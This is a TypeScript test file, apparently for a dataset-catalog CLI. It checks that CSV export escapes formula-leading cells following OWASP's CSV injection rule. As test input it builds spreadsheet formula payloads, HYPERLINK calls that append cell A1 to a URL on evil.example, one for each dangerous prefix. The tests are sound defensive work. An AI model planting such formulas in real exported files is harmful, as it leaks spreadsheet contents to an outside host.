// CSV injection: `catalog export --format csv` is opened in spreadsheets, and a cell that begins
// like a formula would run as one. OWASP's rule (CSV Injection): a cell starting with =, +, -, @,
// tab or carriage return gets a leading single quote, so the spreadsheet shows it as text.
// corpuskit writes CSV in this one place (src/catalog/export.ts); the readers only read it.
import { parseString } from "fast-csv";
import { describe, expect, it } from "vitest";
import { datasets, exportCatalog, type Dataset } from "../../src/index.js";
import { runCli } from "../support.js";

const OWASP_PREFIXES = ["=", "+", "-", "@", "\t", "\r"];

function parsed(csv: string): Promise<Record<string, string>[]> {
  return new Promise((resolve, reject) => {
    const rows: Record<string, string>[] = [];
    parseString(csv, { headers: true })
      .on("data", (row: Record<string, string>) => rows.push(row))
      .on("error", reject)
      .on("end", () => resolve(rows));
  });
}

/** A real entry with every string cell of its row set to `value`. */
function hostile(value: string, i: number): Dataset {
  const base = datasets()[0]!;
  return {
    ...base,
    id: `hostile-${i}`,
    name: value,
    languages: [value],
    domains: [value as Dataset["domains"][number]],
    license: { ...base.license, spdx: value, name: value },
    usedBy: [{ ...(base.usedBy[0] ?? { model: "" }), model: value }],
    hub: [{ ...(base.hub[0] ?? { id: "" }), id: value } as Dataset["hub"][number]],
    aliases: [value],
  };
}

describe("catalog export --format csv", () => {
  it("prefixes every cell that starts like a formula with a single quote, and keeps the rest of it", async () => {
    const payloads = OWASP_PREFIXES.map((p) => `${p}HYPERLINK("https://evil.example/?x="&A1,"click")`);
    const list = payloads.map(hostile);
    const rows = await parsed(await exportCatalog(list, "csv"));
    expect(rows).toHaveLength(payloads.length);
    rows.forEach((row, i) => {
      for (const column of ["name", "languages", "domains", "license", "used_by", "hub", "aliases"]) {
        expect(row[column], `${column} of row ${i}`).toBe(`'${payloads[i]}`);
      }
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });

  it("leaves ordinary cells alone: names, ids, numbers", async () => {
    const real = datasets().slice(0, 5);
    const rows = await parsed(await exportCatalog(real, "csv"));
    expect(rows.map((r) => r.id)).toEqual(real.map((d) => d.id));
    expect(rows.map((r) => r.name)).toEqual(real.map((d) => d.name));
    const safe = await parsed(await exportCatalog([hostile("a formula later: =1+1", 0)], "csv"));
    expect(safe[0]!.name).toBe("a formula later: =1+1");
  });

  it("the CLI's export of the real catalog has no cell that starts like a formula", async () => {
    const run = runCli("catalog", "export", "--format", "csv");
    expect(run.code).toBe(0);
    const rows = await parsed(run.stdout);
    expect(rows.length).toBe(datasets().length);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
